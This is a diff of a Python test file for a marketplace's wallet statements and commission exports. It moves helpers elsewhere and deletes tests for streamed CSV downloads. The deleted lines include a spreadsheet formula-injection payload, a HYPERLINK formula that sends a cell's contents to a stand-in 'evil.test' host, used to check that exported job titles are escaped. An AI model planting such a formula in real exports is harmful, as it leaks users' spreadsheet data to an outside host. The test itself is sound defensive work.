@@ -1,82 +1,22 @@
-"""Statements and commissions: sums that agree with the balances, as JSON and as streamed CSV."""
+"""Statements and commissions: sums that agree with the balances, and what they cost."""
 
-import asyncio
-import csv
-import io
-import tracemalloc
 from datetime import UTC, datetime, timedelta
 
-import aiohttp
 import pytest
 
 from domain import commissions, ledger, statements
 from domain.ledger import Posting, Transaction
 from domain.operation import Actor, Role
-from domain.sides import Side, platform_before
-from domain.store import UnitOfWork, new_id
-from handlers.statements import cell, decimal
-from server import downloads
+from domain.sides import platform_before
+from domain.store import UnitOfWork
+from tests.ledgers import NEW_YEAR, book_rows, download, lately, statement, told, transaction
 from tests.parties import Refused
 from tests.work import PATIENCE, Work
-
-NEW_YEAR = datetime(2026, 1, 1, tzinfo=UTC)
-ROWS = 20_000
-EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'
 
 
 @pytest.fixture
 def work(market, server):
     return Work(market, server)
-
-
-def lately(**fields):
-    """The last day and the next, as fields of a statement."""
-    now = datetime.now(UTC)
-    span = {"start": now - timedelta(days=1), "end": now + timedelta(days=1)}
-    return {name: at.isoformat() for name, at in span.items()} | fields
-
-
-async def statement(party, **fields):
-    return await party.call("/wallet", "statement", lately(**fields))
-
-
-def told(statement):
-    """kind -> (count, in, out, moved)"""
-    return {
-        line["kind"]: (line["count"], line["in_amount"], line["out_amount"], line["moved_amount"])
-        for line in statement["lines"]
-    }
-
-
-async def download(party, path, **params):
-    """Status, headers and the rows of a CSV file as dicts."""
-    headers = {"Authorization": f"Bearer {party.token}"} if party.token else {}
-    url = f"{party.url}/api/{path}"
-    async with party.web.get(url, params=params, headers=headers) as response:
-        if response.content_type != "text/csv":
-            return response.status, response.headers, await response.json(content_type=None)
-        text = io.StringIO(await response.text(), newline="")
-        return response.status, response.headers, list(csv.DictReader(text))
-
-
-def transaction(number, user="usr_1", **fields):
-    """A row of the journal, one a minute: earned, settled, withdrawn, paid out, and so on."""
-    kinds = ("completed", "transfer_settled", "withdrawn", "paid_out")
-    way = ("escrow:ofr_1", ledger.pending(user), ledger.available(user), ledger.in_transit(user),
-           ledger.BANK)  # fmt: skip
-    step = number % 4
-    given = {
-        "kind": kinds[step], "currency": "USD", "users": (user,), "fact": f"{user}:{number}",
-        "postings": (Posting(way[step], way[step + 1], 100),), "accounts": way[step : step + 2],
-        "created_at": NEW_YEAR + timedelta(minutes=number), **fields,
-    }  # fmt: skip
-    return Transaction(id=new_id(Transaction.PREFIX), updated_at=given["created_at"], **given)
-
-
-async def book_rows(store, count, **fields):
-    for start in range(0, count, 2000):
-        numbers = range(start, min(start + 2000, count))
-        await store.single().add_all([transaction(number, **fields) for number in numbers])
 
 
 # -- the sums ------------------------------------------------------------------------------------
@@ -302,149 +242,3 @@ async def test_the_platforms_balance_is_read_from_its_snapshot(server, monkeypat
     await ledger.take_snapshot(uow, ledger.PLATFORM)
     assert await uow.count(ledger.Snapshot, {"_id": "snapshot:platform|USD", "balance": 5_100}) == 1
     assert await balances() == plain
-
-
-async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
-    """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes tens
-    of megabytes. Without `response.write` of each piece the length would be known before."""
-    party = await market.contractor()
-    await book_rows(server.store, ROWS, user=party.id)
-    span = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
-    headers = {"Authorization": f"Bearer {party.token}"}
-    tracemalloc.start()
-    try:
-        url = f"{party.url}/api/wallet/statement.csv"
-        async with party.web.get(url, params=span, headers=headers) as response:
-            assert response.headers["Transfer-Encoding"] == "chunked"
-            began, lines, last = tracemalloc.get_traced_memory()[0], 0, b""
-            async for piece in response.content.iter_any():
-                lines += piece.count(b"\r\n")
-                last = piece
-        peak = tracemalloc.get_traced_memory()[1]
-    finally:
-        tracemalloc.stop()
-    assert lines == ROWS + 1
-    assert peak - began < 8_000_000
-    whole = await party.call("/wallet", "statement", span)
-    assert last.rstrip().endswith(str(whole["closing"]["amount"]).encode())
-    assert sum(line["count"] for line in whole["lines"]) == ROWS
-
-
-# -- the files -----------------------------------------------------------------------------------
-
-
-async def test_a_statement_as_a_file(work):
-    """Guard: the headers in `downloads.send`, `decimal`, and the running balance."""
-    await work.done()
-    await work.withdraw(20_000)
-    status, headers, rows = await download(work.contractor, "wallet/statement.csv", **lately())
-    assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
-    assert headers["Cache-Control"] == "no-store"
-    assert headers["Content-Disposition"].startswith('attachment; filename="statement-')
-    shown = [[row[name] for name in ("kind", "amount", "moved", "balance_minor")] for row in rows]
-    assert shown == [
-        ["completed", "700.00", "0.00", "70000"], ["transfer_settled", "0.00", "700.00", "70000"],
-        ["withdrawn", "0.00", "200.00", "70000"], ["paid_out", "-200.00", "0.00", "50000"],
-    ]  # fmt: skip
-    assert [row["offer_id"] for row in rows] == [work.offer["id"]] * 2 + [""] * 2
-    assert [row["job"] for row in rows] == ["Paint the fence"] * 2 + [""] * 2
-    assert rows[2]["withdrawal_id"] == rows[3]["withdrawal_id"] != ""
-    assert [datetime.fromisoformat(row["at"]) for row in rows] == sorted(
-        datetime.fromisoformat(row["at"]) for row in rows
-    )
-
-
-async def test_what_people_wrote_is_no_formula(market, server):
-    """Guard: FORMULA in `cell`, and the csv module's quoting."""
-    customer, contractor = await market.customer(), await market.contractor()
-    deal = Work(market, server)
-    deal.job = await market.job(customer, title=EVIL)
-    await market.application(contractor, deal.job)
-    await market.accept(contractor, await market.offer(customer, contractor, deal.job))
-    _, _, rows = await download(customer, "wallet/statement.csv", **lately())
-    assert [row["job"] for row in rows] == ["'" + EVIL]
-    assert rows[0]["amount"] == "-1000.00"
-
-
-def test_cells() -> None:
-    """Guard: FORMULA; and numbers, which begin with a minus, stay numbers."""
-    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "＝1"):  # noqa: RUF001
-        assert cell(text) == f"'{text}"
-    for text in ("Fence", "a=1", "1-1", "'=1", ""):
-        assert cell(text) == text
-    assert (cell(-5), cell(decimal(-5, "USD"))) == ("-5", "-0.05")
-
-
-@pytest.mark.parametrize(("amount", "currency", "text"), [
-    (70_000, "USD", "700.00"), (-123_456, "EUR", "-1234.56"), (0, "USD", "0.00"),
-    (500, "JPY", "500"), (0, "JPY", "0"), (1_250, "KWD", "1.250"), (1, "KWD", "0.001"),
-])  # fmt: skip
-def test_decimals(amount, currency, text):
-    """Guard: the exponent in `decimal`; floats would lose cents of large sums."""
-    assert cell(decimal(amount, currency)) == text
-
-
-async def test_files_are_refused_like_commands(market):
-    """Guard: `_caller` and `admit` before the first byte: every refusal is a problem."""
-    customer, contractor = await market.customer(), await market.contractor()
-    span = lately()
-    for party, path, params, code, status in (
-        (market.stranger(), "wallet/statement.csv", span, "unauthenticated", 401),
-        (market.stranger(), "admin/commissions.csv", span, "unauthenticated", 401),
-        (customer, "admin/commissions.csv", span, "forbidden", 403),
-        (contractor, "admin/commissions.csv", span, "forbidden", 403),
-        (customer, "wallet/statement.csv", {}, "invalid", 422),
-        (customer, "wallet/statement.csv", {**span, "user_id": contractor.id}, "invalid", 422),
-        (customer, "wallet/statement.csv", {**span, "end": span["start"]}, "invalid", 422),
-    ):
-        found, headers, problem = await download(party, path, **params)
-        assert (found, problem["code"]) == (status, code), (path, params)
-        assert headers["Content-Type"].startswith("application/problem+json")
-
-
-async def test_a_file_that_breaks_off_does_not_look_whole(market, server, monkeypatch):
-    """Guard: `_cut` in `downloads.send`; an end in good order would say that this is all. And what
-    fails before the first piece is a problem: `anext` in `Download.open`."""
-    party = await market.contractor()
-    await book_rows(server.store, 1_000, user=party.id)
-    span = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
-    real, broken_at = Side.effect, 700
-
-    def broken(side, transaction):
-        if transaction.fact == f"{party.id}:{broken_at}":
-            raise RuntimeError("the disk is on fire")
-        return real(side, transaction)
-
-    monkeypatch.setattr(Side, "effect", broken)
-    with pytest.raises(aiohttp.ClientPayloadError):
-        await download(party, "wallet/statement.csv", **span)
-    broken_at = 0
-    status, _, problem = await download(party, "wallet/statement.csv", **span)
-    assert (status, problem["code"]) == (500, "internal")
-
-
-async def test_who_does_not_read_is_cut_off(market, server, monkeypatch):
-    """Guard: `asyncio.timeout` in `downloads._write`; without it a stalled client holds a cursor of
-    the database for as long as it likes."""
-    monkeypatch.setattr(downloads, "PATIENCE_SECONDS", 0.5)
-    # More than the buffers of the system take.
-    monkeypatch.setattr("handlers.statements.encode", lambda rows: bytes(2_000_000))
-    party = await market.contractor()
-    await book_rows(server.store, 2_000, user=party.id)
-    host, port = party.url.removeprefix("http://").split(":")
-    reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
-    span = "start=2026-01-01T00:00:00Z&end=2026-02-01T00:00:00Z"
-    writer.write(
-        f"GET /api/wallet/statement.csv?{span} HTTP/1.1\r\nHost: {host}\r\n"
-        f"Authorization: Bearer {party.token}\r\n\r\n".encode()
-    )
-    assert b"200 OK" in await reader.readline()
-    cut = asyncio.Event()
-    real = downloads._cut
-    monkeypatch.setattr(downloads, "_cut", lambda request: (real(request), cut.set()))
-    async with asyncio.timeout(20):
-        await cut.wait()
-        with pytest.raises(ConnectionError):
-            while await reader.read(1 << 20):
-                pass
-    writer.close()
